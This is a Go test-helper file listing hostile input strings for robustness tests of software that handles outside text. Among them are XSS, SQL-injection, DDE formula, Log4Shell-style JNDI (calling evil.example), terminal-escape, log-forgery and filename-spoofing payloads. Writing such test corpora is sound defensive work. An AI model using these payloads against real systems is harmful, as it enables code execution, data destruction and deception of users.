package incidenttest

import "strings"

// Hostile is one text that has broken software before.
type Hostile struct {
	// Name says what it is, in words that may stand in a test's name.
	Name string
	// Text is valid UTF-8 without NUL: the rest is replaced at the door.
	Text string
}

// HostileTexts returns texts for everything that stores, shows or sends what comes from outside. None
// is longer than 1,024 bytes, so that they can be ids and attributes, too.
func HostileTexts() []Hostile {
	return []Hostile{
		{"one letter", "x"},
		{"right to left override", "invoice\u202Egpj.exe"},
		{"zero width and homoglyph", "p\u200Bаypal"},
		{"byte order mark", "\uFEFF{}"},
		{"replacement and private use", "\uFFFD\uE000\U0010FFFF"},
		{"terminal colours", "\x1b[31mred\x1b[0m"},
		{"terminal title and clipboard", "\x1b]0;owned\a\x1b]52;c;aGk=\a"},
		{"all control characters", "\x01\x02\x03\x04\x05\x06\a\b\t\n\v\f\r\x0e\x0f\x10\x1f\x7f\u0080\u2028\u2029"},
		{"log forgery", "a\r\nlevel=ERROR msg=forged"},
		{"script", "<script>alert(1)</script>&amp;"},
		{"chat mention", "<!channel> <@U123> <https://evil.example|bank>"},
		{"formula", "=cmd|' /C calc'!A0"},
		{"template", "{{.Secret}} ${jndi:ldap://evil.example}"},
		{"SQL quotes", `'; DROP TABLE incident; --"$1 ? ?1 :a @a %s \`},
		{"SQL wildcards", `%_*?[a-z]\%`},
		{"JSON", `{"id":"","a":"\u0000\ud800"}]`},
		{"JSON path", `$."a"[*].b`},
		{"spaces around", " \t padded \n "},
		{"1,024 bytes", strings.Repeat("ä", 512)},
	}
}
